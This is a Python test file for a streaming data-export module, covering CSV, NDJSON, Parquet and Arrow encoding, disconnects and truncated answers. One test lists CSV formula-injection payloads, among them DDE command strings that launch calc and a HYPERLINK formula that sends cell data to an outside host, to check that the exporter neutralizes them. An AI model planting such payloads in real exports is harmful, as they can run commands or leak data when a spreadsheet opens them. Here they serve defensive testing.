import asyncio
import csv
import io
import json
import math
import socket
import threading
import time
from collections.abc import AsyncGenerator, AsyncIterator, Callable, Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from datetime import UTC, datetime
from decimal import Decimal
from typing import Any

import httpx
import pyarrow as pa
import pyarrow.parquet as pq
import pytest
import uvicorn
from starlette.requests import ClientDisconnect, Request
from starlette.responses import Response
from starlette.routing import Route

from query.export_csv import harmless
from query.export_encoders import ROW_GROUP_ROWS, TEXT_ROWS
from query.export_format import ExportFormat
from query.export_stream import export_response, ndjson_response
from runtime.errors import TimelineUnavailableError
from runtime.http import AnswerBrokenOffError, build_app
from tests.query.problems import problem

NUMBERS = pa.schema([("number", pa.int64()), ("text", pa.string())])
PARQUET_END = b"PAR1"
ARROW_END = b"\xff\xff\xff\xff\x00\x00\x00\x00"


def numbers(count: int, first: int = 0) -> pa.RecordBatch:
    rows = range(first, first + count)
    return pa.RecordBatch.from_pydict(
        {"number": list(rows), "text": [f"row {row}" for row in rows]}, NUMBERS
    )


@dataclass
class Client:
    """Takes what an answer sends; `hangs_up_after` so many pieces of a body."""

    hangs_up_after: int | None = None
    start: dict[str, Any] = field(default_factory=dict)
    pieces: list[bytes] = field(default_factory=list)
    is_whole: bool = False
    gone: asyncio.Event = field(default_factory=asyncio.Event)
    after_piece: Callable[[], None] = lambda: None

    async def take(self, response: Response, method: str = "GET") -> None:
        await response({"type": "http", "method": method}, self._receive, self._send)

    @property
    def body(self) -> bytes:
        return b"".join(self.pieces)

    @property
    def headers(self) -> dict[str, str]:
        return {name.decode(): value.decode() for name, value in self.start["headers"]}

    async def _receive(self) -> dict[str, Any]:
        await self.gone.wait()
        return {"type": "http.disconnect"}

    async def _send(self, message: Any) -> None:
        if message["type"] == "http.response.start":
            self.start = message
            return
        if message["body"]:
            self.pieces.append(message["body"])
            self.after_piece()
            if self.hangs_up_after == len(self.pieces):
                self.gone.set()
                # Like a connection whose buffers are full: nobody takes more.
                await asyncio.sleep(3_600)
        self.is_whole = not message["more_body"]


@dataclass
class Source:
    """Batches as they are asked for, and whether they were closed."""

    batches: list[pa.RecordBatch] | None = None  # None: endless
    rows: int = 100
    breaks: BaseException | None = None  # after the batches
    asked: int = 0
    is_closed: bool = False

    async def stream(self) -> AsyncGenerator[pa.RecordBatch, None]:
        try:
            for batch in self.batches if self.batches is not None else iter(self._next, None):
                self.asked += 1
                yield batch
            if self.breaks is not None:
                raise self.breaks
        finally:
            self.is_closed = True

    def _next(self) -> pa.RecordBatch:
        return numbers(self.rows, self.asked * self.rows)


def taken(form: ExportFormat, *batches: pa.RecordBatch, schema: pa.Schema = NUMBERS) -> bytes:
    """The whole body."""

    async def take() -> bytes:
        client, source = Client(), Source(list(batches))
        await client.take(export_response(form, schema, source.stream(), filename="x"))
        assert client.is_whole
        assert source.is_closed
        return client.body

    return asyncio.run(take())


def cells(body: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body.decode(), newline="")))


MANY_TYPES = pa.schema(
    [
        ("at", pa.timestamp("us", "UTC")),
        ("at_ns", pa.timestamp("ns")),
        ("at_elsewhere", pa.timestamp("s", "Europe/Berlin")),
        ("share", pa.float64()),
        ("count", pa.uint64()),
        ("is_open", pa.bool_()),
        ("price", pa.decimal128(10, 2)),
        ("day", pa.date32()),
        ("kind", pa.dictionary(pa.int32(), pa.string())),
        ("flags", pa.list_(pa.string())),
        ("links", pa.list_(pa.struct([("id", pa.string()), ("at", pa.timestamp("us", "UTC"))]))),
        ("labels", pa.map_(pa.string(), pa.string())),
        ("raw", pa.binary()),
    ]
)
MOMENT = datetime(2026, 3, 24, 10, 12, 3, tzinfo=UTC)
ONE_OF_EACH = {
    "at": MOMENT,
    "at_ns": 1_774_347_123_000_001_999,
    "at_elsewhere": MOMENT,
    "share": 0.25,
    "count": 2**64 - 1,
    "is_open": True,
    "price": Decimal("-1.20"),
    "day": MOMENT.date(),
    "kind": "ssh_session",
    "flags": ["late"],
    "links": [{"id": "1", "at": MOMENT}],
    "labels": [("team", "infra")],
    "raw": b"\xff",
}


def test_ndjson_writes_every_type_as_the_api_does() -> None:
    batch = pa.RecordBatch.from_pylist([ONE_OF_EACH, {}], MANY_TYPES)

    first, second = taken(ExportFormat.NDJSON, batch, schema=MANY_TYPES).splitlines()

    assert json.loads(first) == {
        "at": "2026-03-24T10:12:03.000000Z",
        "at_ns": "2026-03-24T10:12:03.000001Z",
        "at_elsewhere": "2026-03-24T10:12:03.000000Z",
        "share": 0.25,
        "count": 2**64 - 1,
        "is_open": True,
        "price": "-1.20",
        "day": "2026-03-24",
        "kind": "ssh_session",
        "flags": ["late"],
        "links": [{"id": "1", "at": "2026-03-24T10:12:03.000000Z"}],
        "labels": {"team": "infra"},
        "raw": "/w==",
    }
    assert json.loads(second) == dict.fromkeys(ONE_OF_EACH)


def test_csv_has_a_header_json_for_what_is_nested_and_nothing_for_null() -> None:
    batch = pa.RecordBatch.from_pylist([ONE_OF_EACH, {}], MANY_TYPES)

    body = taken(ExportFormat.CSV, batch, schema=MANY_TYPES)

    head, first, second = cells(body)
    row = dict(zip(head, first, strict=True))
    assert head == list(ONE_OF_EACH)
    assert row["at_ns"] == "2026-03-24T10:12:03.000001Z"
    assert row["at"] == row["at_elsewhere"] == "2026-03-24T10:12:03.000000Z"
    assert (row["share"], row["is_open"], row["price"]) == ("0.25", "true", "-1.20")
    assert json.loads(row["flags"]) == ["late"]
    assert json.loads(row["links"]) == [{"id": "1", "at": "2026-03-24T10:12:03.000000Z"}]
    assert json.loads(row["labels"]) == {"team": "infra"}
    assert second == [""] * len(head)
    assert body.count(b"\r\n") == 3


def test_numbers_that_json_does_not_have_are_null() -> None:
    schema = pa.schema([("share", pa.float64())])
    batch = pa.RecordBatch.from_pylist(
        [{"share": math.nan}, {"share": math.inf}, {"share": -math.inf}], schema
    )
    assert taken(ExportFormat.NDJSON, batch, schema=schema) == b'{"share":null}\n' * 3


@pytest.mark.parametrize(
    "attack",
    [
        "=1+1",
        "+1",
        "-1",
        "@SUM(A1)",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "=cmd|' /C calc'!A0",
        '=HYPERLINK("http://x.test?"&A1,"open")',
        "-2+3+cmd|' /C calc'!A0",
        "@import",
        " =1+1",
        "   -1",
        "\u00a0=1+1",  # a blank that does not break
        "\u3000=1+1",  # a full-width blank
        "\u200b=1+1",  # without width
        "\ufeff=1+1",  # a byte order mark
        "\x00=1+1",
        "＝1+1",
        "＋1",
        "－1",
        "＠SUM(A1)",
        " \u3000＝1+1",
        "=",
        '=1+1";=1+1',
        "=1+1,=2+2",
    ],
)
def test_no_text_is_a_formula_in_csv(attack: str) -> None:
    schema = pa.schema([("a", pa.string()), (attack, pa.string()), ("kind", KIND)])
    batch = pa.RecordBatch.from_arrays(
        [pa.array([attack]), pa.array([f"x{attack}"]), pa.array([attack], KIND)], schema=schema
    )

    head, row = cells(taken(ExportFormat.CSV, batch, schema=schema))

    assert head == ["a", "'" + attack, "kind"]
    assert row == ["'" + attack, "x" + attack, "'" + attack]


KIND = pa.dictionary(pa.int32(), pa.string())


@pytest.mark.parametrize(
    "text", ["", " ", "web", "a=b", "1-2", "'quoted", "über", "[-1]", "x\r\ny"]
)
def test_harmless_text_stays_as_it_is(text: str) -> None:
    assert harmless(text) == text


def test_a_negative_number_stays_a_number_in_csv() -> None:
    schema = pa.schema(
        [("exit_code", pa.int64()), ("share", pa.float32()), ("price", pa.decimal128(4, 1))]
    )
    batch = pa.RecordBatch.from_pylist(
        [{"exit_code": -9, "share": -0.5, "price": Decimal("-1.5")}], schema
    )
    assert cells(taken(ExportFormat.CSV, batch, schema=schema))[1] == ["-9", "-0.5", "-1.5"]


def test_only_formulas_are_changed_in_the_other_formats() -> None:
    batch = pa.RecordBatch.from_pylist([{"number": 1, "text": "=1+1"}], NUMBERS)
    assert json.loads(taken(ExportFormat.NDJSON, batch))["text"] == "=1+1"
    assert pq.read_table(io.BytesIO(taken(ExportFormat.PARQUET, batch))).to_pylist() == [
        {"number": 1, "text": "=1+1"}
    ]


@pytest.mark.parametrize("form", ExportFormat)
def test_no_rows_are_a_whole_answer(form: ExportFormat) -> None:
    body = taken(form)
    match form:
        case ExportFormat.NDJSON:
            assert body == b""
        case ExportFormat.CSV:
            assert body == b"number,text\r\n"
        case ExportFormat.PARQUET:
            assert pq.read_table(io.BytesIO(body)).schema == NUMBERS
        case ExportFormat.ARROW:
            assert pa.ipc.open_stream(body).read_all().schema == NUMBERS


@pytest.mark.parametrize("form", ExportFormat)
def test_the_headers_say_what_it_is(form: ExportFormat) -> None:
    async def take() -> Client:
        client = Client()
        source = Source([numbers(1)])
        name = f"timeline{form.suffix}"
        await client.take(export_response(form, NUMBERS, source.stream(), filename=name))
        return client

    client = asyncio.run(take())
    assert client.start["status"] == 200
    assert client.headers["content-type"] == form.media_type
    assert client.headers["content-disposition"] == (
        f'attachment; filename="timeline{form.suffix}"'
    )
    assert client.headers["vary"] == "Accept"


def test_small_batches_become_large_row_groups_and_large_ones_are_cut() -> None:
    small = [numbers(300, number * 300) for number in range(200)]
    body = taken(ExportFormat.PARQUET, *small, numbers(45_000, 60_000))

    file = pq.ParquetFile(io.BytesIO(body))
    rows = [file.metadata.row_group(n).num_rows for n in range(file.num_row_groups)]
    assert rows == [ROW_GROUP_ROWS] * 5 + [5_000]
    assert file.metadata.row_group(0).column(0).compression == "ZSTD"
    assert file.read().column("number").to_pylist() == list(range(105_000))


def test_a_row_group_of_large_rows_has_fewer_of_them() -> None:
    texts = ["x" * 1_000_000] * 10
    batch = pa.RecordBatch.from_pydict({"number": list(range(10)), "text": texts}, NUMBERS)

    file = pq.ParquetFile(io.BytesIO(taken(ExportFormat.PARQUET, *[batch] * 10)))
    rows = [file.metadata.row_group(n).num_rows for n in range(file.num_row_groups)]
    assert rows == [40, 40, 20]


def test_large_batches_become_pieces_of_text() -> None:
    async def take() -> Client:
        client = Client()
        source = Source([numbers(TEXT_ROWS * 3 + 1)])
        await client.take(
            export_response(ExportFormat.CSV, NUMBERS, source.stream(), filename="x.csv")
        )
        return client

    client = asyncio.run(take())
    assert len(client.pieces) == 4
    assert [int(row[0]) for row in cells(client.body)[1:]] == list(range(TEXT_ROWS * 3 + 1))


@pytest.mark.parametrize("form", ExportFormat)
def test_an_endless_source_is_asked_only_for_what_the_client_takes(form: ExportFormat) -> None:
    """A batch of 100 rows; nothing but Parquet's row group may wait inside."""
    pieces = 30
    waiting = ROW_GROUP_ROWS // 100 if form is ExportFormat.PARQUET else 0

    async def take() -> None:
        client, source = Client(hangs_up_after=pieces), Source()
        asked: list[int] = []
        client.after_piece = lambda: asked.append(source.asked)
        response = export_response(form, NUMBERS, source.stream(), filename="x")
        with pytest.raises(ClientDisconnect):
            await client.take(response)
        for number, ahead in enumerate(asked):
            # One piece before the first row group: the magic number of Parquet.
            assert ahead <= (number + 1) * max(waiting, 1)
        assert source.is_closed
        assert not client.is_whole

    asyncio.run(asyncio.wait_for(take(), 60))


@pytest.mark.parametrize("form", ExportFormat)
@pytest.mark.parametrize("error", [TimelineUnavailableError("away"), AssertionError("a bug")])
def test_an_answer_that_breaks_off_does_not_look_complete(
    form: ExportFormat, error: Exception
) -> None:
    async def take() -> Client:
        client = Client()
        source = Source([numbers(ROW_GROUP_ROWS)], breaks=error)
        response = export_response(form, NUMBERS, source.stream(), filename="x")
        with pytest.raises((AnswerBrokenOffError, AssertionError)) as caught:
            await client.take(response)
        assert (caught.type is AssertionError) == isinstance(error, AssertionError)
        assert source.is_closed
        return client

    client = asyncio.run(take())
    assert client.body
    assert not client.is_whole
    if form is ExportFormat.PARQUET:
        assert not client.body.endswith(PARQUET_END)
        with pytest.raises(pa.ArrowInvalid):
            pq.read_table(io.BytesIO(client.body))
    if form is ExportFormat.ARROW:
        assert not client.body.endswith(ARROW_END)


def test_an_end_of_arrow_is_what_the_test_above_looks_for() -> None:
    assert taken(ExportFormat.ARROW, numbers(1)).endswith(ARROW_END)
    assert taken(ExportFormat.PARQUET, numbers(1)).endswith(PARQUET_END)


@pytest.mark.parametrize("form", ExportFormat)
def test_what_fails_before_the_first_rows_can_still_be_told(form: ExportFormat) -> None:
    async def take() -> None:
        client = Client()
        source = Source([], breaks=TimelineUnavailableError("away"))
        with pytest.raises(TimelineUnavailableError):
            await client.take(export_response(form, NUMBERS, source.stream(), filename="x"))
        assert client.start == {}

    asyncio.run(take())


def test_a_client_that_hangs_up_while_the_store_is_asked_ends_the_asking() -> None:
    async def take() -> None:
        is_cancelled = False

        async def slow() -> AsyncIterator[pa.RecordBatch]:
            nonlocal is_cancelled
            yield numbers(1)
            client.gone.set()
            try:
                await asyncio.sleep(3_600)
            except asyncio.CancelledError:
                is_cancelled = True
                raise
            yield numbers(1)

        client = Client()
        response = export_response(ExportFormat.NDJSON, NUMBERS, slow(), filename="x")
        with pytest.raises(ClientDisconnect):
            await client.take(response)
        assert is_cancelled

    asyncio.run(asyncio.wait_for(take(), 5))


def test_a_server_that_ends_closes_the_source_before_it_returns() -> None:
    async def take() -> None:
        client, source = Client(), Source()
        response = export_response(ExportFormat.CSV, NUMBERS, source.stream(), filename="x")
        answering = asyncio.create_task(client.take(response))
        while not client.pieces:
            await asyncio.sleep(0.001)
        answering.cancel()
        with pytest.raises(asyncio.CancelledError):
            await answering
        assert source.is_closed

    asyncio.run(asyncio.wait_for(take(), 5))


@pytest.mark.parametrize("form", ExportFormat)
def test_the_headers_alone_read_nothing(form: ExportFormat) -> None:
    async def take() -> None:
        client, source = Client(), Source()
        response = export_response(form, NUMBERS, source.stream(), filename="x")
        await client.take(response, "HEAD")
        assert client.headers["content-type"] == form.media_type
        assert (client.is_whole, client.body, source.asked) == (True, b"", 0)

    asyncio.run(take())


def test_items_that_are_json_already_are_written_as_they_are() -> None:
    async def pages() -> AsyncIterator[list[dict[str, Any]]]:
        yield [{"id": "1", "host": {"name": "=x"}}]
        yield []
        yield [{"id": "2", "gap_ms": 5}]

    async def take() -> Client:
        client = Client()
        await client.take(ndjson_response(pages(), filename="timeline.ndjson"))
        return client

    client = asyncio.run(take())
    assert client.body == b'{"id":"1","host":{"name":"=x"}}\n{"id":"2","gap_ms":5}\n'
    assert client.is_whole


# --- Over a connection ----------------------------------------------------------------------------


@contextmanager
def served(answer: Callable[[], Response]) -> Iterator[str]:
    """The address of a server, as in production, that answers so."""

    async def endpoint(_request: Request) -> Response:
        return answer()

    config = uvicorn.Config(
        build_app([Route("/export", endpoint)]), http="httptools", ws="none", log_config=None
    )
    server = uvicorn.Server(config)
    with socket.create_server(("127.0.0.1", 0)) as listening:
        thread = threading.Thread(target=server.run, kwargs={"sockets": [listening]})
        thread.start()
        try:
            yield f"http://127.0.0.1:{listening.getsockname()[1]}/export"
        finally:
            server.should_exit = True
            thread.join()


@pytest.mark.parametrize("form", ExportFormat)
def test_a_client_sees_that_the_connection_broke_off(form: ExportFormat) -> None:
    source = Source([numbers(10)], breaks=TimelineUnavailableError("away"))

    def answer() -> Response:
        return export_response(form, NUMBERS, source.stream(), filename="x")

    with served(answer) as address, pytest.raises(httpx.RemoteProtocolError):
        httpx.get(address)
    assert source.is_closed


def test_a_store_that_is_away_from_the_start_is_a_problem() -> None:
    source = Source([], breaks=TimelineUnavailableError("away"))

    def answer() -> Response:
        return export_response(ExportFormat.CSV, NUMBERS, source.stream(), filename="x")

    with served(answer) as address:
        refused = httpx.get(address)
    problem(refused, 503, "timeline_unavailable")
    assert "content-disposition" not in refused.headers


@pytest.mark.parametrize("form", ExportFormat)
def test_a_slow_client_holds_up_the_source_and_a_gone_one_closes_it(form: ExportFormat) -> None:
    source = Source(rows=10_000)

    def answer() -> Response:
        return export_response(form, NUMBERS, source.stream(), filename="x")

    with served(answer) as address:
        with httpx.stream("GET", address) as response:
            pieces = response.iter_raw()
            next(pieces)
            asked = settled(lambda: source.asked)  # the buffers on the way are full
            assert not is_soon(lambda: source.is_closed, tries=1)
        assert is_soon(lambda: source.is_closed)
        assert source.asked < asked + 2 * ROW_GROUP_ROWS // source.rows


def settled(count: Callable[[], int]) -> int:
    """The number once it stands still."""
    before = -1
    while before != count():
        before = count()
        time.sleep(0.3)
    return before


def is_soon(is_so: Callable[[], bool], *, tries: int = 100) -> bool:
    for _ in range(tries):
        if is_so():
            return True
        time.sleep(0.05)
    return False
